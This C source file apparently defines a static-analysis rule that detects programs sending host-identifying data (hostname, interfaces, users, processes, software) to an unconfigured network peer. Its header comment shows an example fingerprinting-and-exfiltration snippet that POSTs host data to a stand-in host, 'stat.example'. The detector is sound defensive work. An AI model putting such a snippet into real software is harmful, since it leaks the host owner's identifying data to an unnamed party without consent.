/* exfil/identity-to-network: what tells this host apart leaves for a peer that no setting names.
 *
 *     gethostname(text, sizeof text);
 *     getifaddrs(&list);
 *     strcat(text, list->ifa_name);
 *     curl_easy_setopt(curl, CURLOPT_URL, "https://stat.example/c");
 *     curl_easy_setopt(curl, CURLOPT_POSTFIELDS, encode(text));
 *     curl_easy_perform(curl);
 *
 * Not caught: what only an answer tells (how long a name is, which of two messages is sent).
 */
#include "checkers/shared/channel/leak.h"

enum { MAX_KINDS = 5 };

/* What is known of a host: origins, and files, of these classes. */
static const struct kind {
    const char *class_name, *what;
} kinds[MAX_KINDS] = {
    {"host.identity", "name or identity"},        {"host.user", "users"},
    {"host.network", "interfaces or neighbours"}, {"host.process", "running programs"},
    {"host.software", "installed software"},
};

/* The index of what SOURCE tells of the host; MAX_KINDS if it tells nothing. */
static unsigned kind_of(struct vt_check *check, const struct vt_leak *leak) {
    struct vt_program *program = vt_check_program(check);
    const char *text = NULL;
    if (leak->source->kind == VT_SOURCE_EVENT &&
        vt_source_is(program, leak->source, VT_FACT_ORIGIN, "io.read"))
        text = vt_leak_read_name(check, leak).text;
    for (unsigned k = 0; k < MAX_KINDS; k++)
        if (text ? vt_leak_pattern(program, text, kinds[k].class_name) != NULL
                 : vt_source_is(program, leak->source, VT_FACT_ORIGIN, kinds[k].class_name))
            return k;
    struct vt_leak copy = *leak;
    for (unsigned k = 0; text && k < MAX_KINDS; k++)
        if (vt_handle_is(program, leak->source->event, "pipe") &&
            vt_leak_is_named(check, &copy, kinds[k].class_name))
            return k; /* what a command prints */
    return MAX_KINDS;
}

/* The kinds that reach the place, as bits; several together are a portrait. */
static unsigned count_kinds(struct vt_check *check, const struct vt_leak *leak) {
    size_t count;
    unsigned seen = 0, found = 0;
    struct vt_leak other = *leak;
    const struct vt_source *sources = vt_trace_sources(leak->trace, &count);
    for (size_t i = 0; i < count; i++) {
        other.source = &sources[i];
        seen |= 1u << kind_of(check, &other);
    }
    for (unsigned k = 0; k < MAX_KINDS; k++)
        found += seen >> k & 1;
    return found;
}

static bool visit(struct vt_check *check, struct vt_leak *leak, void *context) {
    struct vt_program *program = vt_check_program(check);
    unsigned kind = kind_of(check, leak);
    (void)context;
    if (kind == MAX_KINDS || vt_leak_way(program, leak->asked.ref) != VT_WAY_PLAIN)
        return false;
    struct vt_peer peer = vt_leak_peer(check, leak);
    if (peer.kind == VT_PEER_LOCAL)
        return false;
    struct vt_finding *finding = vt_finding_new(check, leak->asked.ref);
    vt_leak_weigh(check, finding, leak, &peer);
    unsigned together = count_kinds(check, leak);
    if (together > 1)
        vt_finding_evidence(check, finding, "portrait", together > 2 ? 20 : 10,
                            "%u kinds of what tells hosts apart come together.", together);
    if (leak->source->tags & VT_TAG_HASH)
        vt_finding_evidence(check, finding, "hashed", 5,
                            "It is hashed on the way: enough to know the host again.");
    vt_finding_message(check, finding, "The %s of this host from `%s` reaches the network.",
                       kinds[kind].what, vt_source_function(program, leak->source));
    vt_finding_path(check, finding, leak->trace, leak->source, "It is asked for here",
                    "It is sent here");
    vt_finding_send(check, finding, kind >= 3 ? 20 : 10);
    return true;
}

static void run(struct vt_check *check) {
    vt_leaks_to_network(check, visit, NULL);
}

const struct vt_rule vt_exfil_identity_to_network = {
    .id = "exfil/identity-to-network",
    .name = "IdentityToNetwork",
    .summary = "What tells this host apart is sent to a peer that no setting names",
    .description =
        "The name of the host, its hardware addresses, users, processes or software "
        "reach a network send. Protocols tell some of this to the servers they are set up for; "
        "several kinds of it together, encoded, sent to a peer that is written in the program, or "
        "by code that runs before main, are how an implant introduces itself.",
    .help = "Say in the declaration who gets it and why, send it only if a setting says so, and "
            "let the owner of the host name the peer.",
    .cwe = "CWE-359,CWE-497",
    .precision = "medium",
    .severity = 6.5,
    .run = run,
};
